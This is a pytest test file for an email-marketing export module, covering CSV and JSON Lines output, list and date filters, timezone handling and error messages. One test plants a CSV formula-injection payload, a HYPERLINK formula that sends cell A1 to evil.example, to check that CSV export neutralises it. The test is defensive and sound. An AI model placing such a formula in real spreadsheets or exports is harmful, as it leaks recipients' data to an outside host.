"""Exports: every kind, both formats, date and list filters, checked against the store itself;
hostile contact data must come out inert in CSV and unchanged in JSON Lines."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, datetime, timezone

import pytest

from octolib.errors import ConfigError
from octolib.ops.export import KINDS, columns_for, day_bounds, export


@pytest.fixture
def store(synced_store):
    """The synced tiny account (conftest's ``synced_store``: a copy per test)."""
    return synced_store


def as_csv(store, kind, **kw) -> list[dict[str, str]]:
    buf = io.StringIO()
    n = export(store, kind, buf, fmt="csv", **kw)
    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
    assert n == len(rows)
    return rows


def as_jsonl(store, kind, **kw) -> list[dict]:
    buf = io.StringIO()
    n = export(store, kind, buf, fmt="jsonl", **kw)
    rows = [json.loads(line) for line in buf.getvalue().splitlines()]
    assert n == len(rows)
    return rows


def aware(dt: datetime | None) -> datetime | None:
    return None if dt is None else (dt if dt.tzinfo else dt.replace(tzinfo=timezone.utc))


@pytest.mark.parametrize("kind", list(KINDS))
@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_unfiltered_export_has_one_row_per_document(store, kind, fmt):
    expected = store.db[KINDS[kind].collection].count_documents({})
    assert expected > 0
    rows = as_csv(store, kind) if fmt == "csv" else as_jsonl(store, kind)
    assert len(rows) == expected


def test_list_filter_selects_what_the_docstring_says(store):
    lists = [d["emailoctopus_id"] for d in store.lists.find({})]
    assert len(lists) >= 2
    for list_id in lists:
        campaigns = {c["emailoctopus_id"] for c in store.campaigns.find({}) if list_id in c["list_ids"]}
        contacts = {c["emailoctopus_id"] for c in store.contacts.find({"list_id": list_id})}
        assert {r["emailoctopus_id"] for r in as_csv(store, "campaigns", list_id=list_id)} == campaigns
        assert {r["emailoctopus_id"] for r in as_csv(store, "contacts", list_id=list_id)} == contacts
        events = as_csv(store, "events", list_id=list_id)
        expected_events = [e for e in store.engagement_events.find({})
                           if e["campaign_id"] in campaigns and e["contact_id"] in contacts]
        assert len(events) == len(expected_events)
        assert {r["list_id"] for r in events} <= {list_id}
        snaps = as_csv(store, "snapshots", list_id=list_id)
        assert len(snaps) == store.campaign_metrics_snapshots.count_documents({"campaign_id": {"$in": list(campaigns)}})


def test_date_filter_keeps_whole_days_in_the_account_timezone(store):
    sent = sorted(aware(c["sent_at"]) for c in store.campaigns.find({"sent_at": {"$ne": None}}))
    since, until = sent[0].date(), sent[len(sent) // 2].date()
    rows = as_csv(store, "campaigns", since=since, until=until)
    expected = [t for t in sent if since <= t.date() <= until]
    assert len(rows) == len(expected) and 0 < len(rows) < store.campaigns.count_documents({})
    # Rows come in date order.
    assert [r["sent_at"] for r in rows] == sorted(r["sent_at"] for r in rows)

    # 23:30 UTC on 1 July is 2 July in London: the day is the account's day, not UTC's.
    store.campaigns.insert_one({"emailoctopus_id": "late", "name": "Late", "list_ids": [], "status": "sent",
                                "sent_at": datetime(2026, 7, 1, 23, 30, tzinfo=timezone.utc)})
    london = {r["emailoctopus_id"] for r in as_csv(store, "campaigns", since=date(2026, 7, 2), until=date(2026, 7, 2),
                                                   tz="Europe/London")}
    utc = {r["emailoctopus_id"] for r in as_csv(store, "campaigns", since=date(2026, 7, 2), until=date(2026, 7, 2))}
    assert "late" in london and "late" not in utc

    with pytest.raises(ConfigError, match="before"):
        day_bounds(date(2026, 2, 1), date(2026, 1, 1))


def test_csv_columns_flatten_metrics_and_custom_fields(store):
    rows = as_csv(store, "campaigns")
    by_id = {c["emailoctopus_id"]: c for c in store.campaigns.find({})}
    for row in rows:
        metrics = by_id[row["emailoctopus_id"]].get("current_metrics") or {}
        for key in ("sent", "opened", "clicked"):
            assert row[f"current_metrics.{key}"] == ("" if key not in metrics else str(metrics[key]))
        assert row["list_ids"] == ";".join(by_id[row["emailoctopus_id"]]["list_ids"])

    header = columns_for(store, "contacts")
    tags = [f["tag"] for lst in store.lists.find({}) for f in lst["fields"]]
    assert {f"fields.{t}" for t in tags} <= set(header)
    contacts = {c["emailoctopus_id"]: c for c in store.contacts.find({})}
    for row in as_csv(store, "contacts"):
        fields = contacts[row["emailoctopus_id"]]["fields"]
        for tag, value in fields.items():
            assert row[f"fields.{tag}"] == ("" if value is None else str(value))


def test_jsonl_keeps_nesting_and_drops_internal_ids(store):
    rows = as_jsonl(store, "snapshots")
    stored = list(store.campaign_metrics_snapshots.find({}))
    assert all("_id" not in r for r in rows)
    assert sorted(r["metrics"]["sent"] for r in rows) == sorted(s["metrics"]["sent"] for s in stored)
    assert all(r["snapshot_time"].endswith("Z") for r in rows)


def test_hostile_contact_data_is_inert_in_csv_and_intact_in_jsonl(store):
    list_id = store.lists.find_one({})["emailoctopus_id"]
    evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    store.contacts.insert_one({"list_id": list_id, "emailoctopus_id": "evil-1", "email": "@evil@example.com",
                               "status": "subscribed", "fields": {"FirstName": evil}, "tags": ["+tag", "ok"],
                               "created_at": datetime(2026, 1, 1, tzinfo=timezone.utc)})
    row = next(r for r in as_csv(store, "contacts") if r["emailoctopus_id"] == "evil-1")
    assert row["fields.FirstName"] == "'" + evil
    assert row["email"] == "'@evil@example.com"
    assert row["tags"] == "'+tag;ok"
    doc = next(r for r in as_jsonl(store, "contacts") if r["emailoctopus_id"] == "evil-1")
    assert doc["fields"]["FirstName"] == evil and doc["tags"] == ["+tag", "ok"]


def test_bad_arguments_are_one_clear_error(store):
    with pytest.raises(ConfigError, match="known lists"):
        export(store, "contacts", io.StringIO(), list_id="no-such-list")
    with pytest.raises(ConfigError, match="campaigns, contacts, events, snapshots"):
        export(store, "unicorns", io.StringIO())
    with pytest.raises(ConfigError, match="csv, jsonl"):
        export(store, "contacts", io.StringIO(), fmt="xlsx")
